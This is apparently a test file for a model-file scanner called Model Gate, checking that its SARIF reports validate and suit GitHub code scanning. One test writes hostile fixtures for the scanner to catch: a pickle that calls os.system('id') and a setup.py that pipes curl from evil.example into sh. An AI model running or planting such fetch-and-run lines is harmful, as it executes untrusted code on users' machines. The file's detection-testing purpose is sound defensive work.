// Every SARIF log Model Gate writes is valid against the OASIS SARIF 2.1.0 schema (vendored, unchanged), checked
// with ajv, and follows what GitHub code scanning reads: rules described once from the table of checks (not from a
// finding), help and security-severity on every rule, fingerprints, repository-relative URIs under %SRCROOT%,
// start lines on every result, byte offsets kept beside them.
import { mkdtemp, mkdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { LocalReview } from '../../src/core/review.js';
import { buildSarif, renderSarif, type SarifLog } from '../../src/report/sarif.js';
import { hasRuleText, ruleText } from '../../src/report/rules.js';
import { createReviewer } from '../../src/review/reviewer.js';
import { sarifValidator } from '../support/sarif-schema.js';
import { file, finding, input, review, sample } from './fixtures.js';

const validate = sarifValidator();

function githubShape(log: SarifLog): void {
  const run = log.runs[0];
  if (!run) throw new Error('no run');
  for (const rule of run.tool.driver.rules) {
    expect(rule.shortDescription.text.length).toBeGreaterThan(0);
    expect(rule.help.text.length).toBeGreaterThan(0);
    expect(rule.help.markdown.length).toBeGreaterThan(0);
    expect(Number(rule.properties['security-severity'])).toBeGreaterThanOrEqual(0);
  }
  for (const result of run.results) {
    const loc = result.locations[0]?.physicalLocation;
    expect(loc?.region.startLine).toBeGreaterThanOrEqual(1);
    const uri = loc?.artifactLocation.uri ?? '';
    if (!uri.startsWith('file:///')) {
      expect(loc?.artifactLocation.uriBaseId).toBe('%SRCROOT%');
      expect(uri).not.toMatch(/^\/|^[a-z]+:/i);
    }
    expect(Object.keys(result.partialFingerprints).length).toBeGreaterThan(0);
  }
}

describe('SARIF against the OASIS 2.1.0 schema', () => {
  test('the validator is a real one: it rejects a log missing required fields', () => {
    expect(validate({ version: '2.1.0', runs: [{ tool: { driver: {} } }] }).length).toBeGreaterThan(0);
    expect(validate({ version: '2.1.0', runs: [] })).toEqual([]);
  });

  test('an allowlist review', () => {
    const log = buildSarif(sample());
    expect(validate(JSON.parse(renderSarif(sample())))).toEqual([]);
    githubShape(log);
  });

  test('rules are described once from the table, never from the first finding', () => {
    const a = review('a/one', 2, 'rejected', [finding('high', 'downloads https://evil.example/payload', { check: 'python.download-exec', help: 'one model specific help' })]);
    const b = review('b/two', 3, 'rejected', [finding('high', 'something else entirely', { check: 'python.download-exec' })]);
    for (const order of [[a, b], [b, a]]) {
      const rules = buildSarif(input(order)).runs[0]?.tool.driver.rules ?? [];
      expect(rules).toHaveLength(1);
      const rule = rules[0];
      expect(rule?.shortDescription.text).toBe(ruleText('python.download-exec').short);
      expect(rule?.fullDescription.text).toBe(ruleText('python.download-exec').full);
      expect(rule?.help.text).toBe(ruleText('python.download-exec').help);
      expect(JSON.stringify(rule)).not.toMatch(/evil\.example|one model specific|something else/);
    }
  });

  test('a local scan: relative URIs under %SRCROOT%, start lines, byte offsets kept, absolute paths as file: URIs', () => {
    const local: LocalReview = {
      kind: 'local', paths: ['model'], verdict: 'rejected', complete: true,
      files: [file('model/a.bin', { formats: ['pickle'] })],
      findings: [
        finding('critical', 'imports os.system', { check: 'pickle.global', file: 'model/a.bin', offset: 77 }),
        finding('high', 'member', { check: 'pickle.global', file: 'model/b.zip!/data.pkl', offset: 5 }),
        finding('high', 'runs a program', { check: 'python.subprocess', file: 'model/x y.py', line: 4 }),
        finding('high', 'outside', { check: 'scan.path-error', file: '/tmp/else where/c.bin' })
      ]
    };
    const report = { ...input([local]), hubUrl: undefined, allowlistPath: undefined };
    const log = buildSarif(report);
    expect(validate(JSON.parse(renderSarif(report)))).toEqual([]);
    githubShape(log);
    const results = log.runs[0]?.results ?? [];
    const pickle = results.find((r) => r.message.text.startsWith('imports'));
    expect(pickle?.locations[0]?.physicalLocation).toEqual({ artifactLocation: { uri: 'model/a.bin', uriBaseId: '%SRCROOT%' }, region: { startLine: 1 } });
    expect(pickle?.properties.byteOffset).toBe(77);
    expect(results.find((r) => r.message.text === 'runs a program')?.locations[0]?.physicalLocation.artifactLocation.uri).toBe('model/x%20y.py');
    expect(results.find((r) => r.message.text === 'outside')?.locations[0]?.physicalLocation.artifactLocation).toEqual({ uri: 'file:///tmp/else%20where/c.bin' });
  });

  test('`scan` SARIF of real files, through the real reviewer', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'mg-sarif-'));
    try {
      await mkdir(join(dir, 'm'));
      // A protocol-2 pickle calling os.system('id'), as raw bytes (never unpickled).
      await writeFile(join(dir, 'm', 'model.bin'), Buffer.from('80024370006f730a73797374656d0a71005801000000696471018552712e'.replace(/\s/g, ''), 'hex'));
      await writeFile(join(dir, 'm', 'setup.py'), 'import os\nos.system("curl https://evil.example/x | sh")\n');
      const { report } = await createReviewer().reviewLocal({ paths: ['m'], cwd: dir, allow: [], policyText: null });
      const log = buildSarif(report);
      expect(validate(JSON.parse(renderSarif(report)))).toEqual([]);
      githubShape(log);
      expect(log.runs[0]?.results.length).toBeGreaterThan(0);
      for (const rule of log.runs[0]?.tool.driver.rules ?? []) expect(hasRuleText(rule.id)).toBe(true);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});
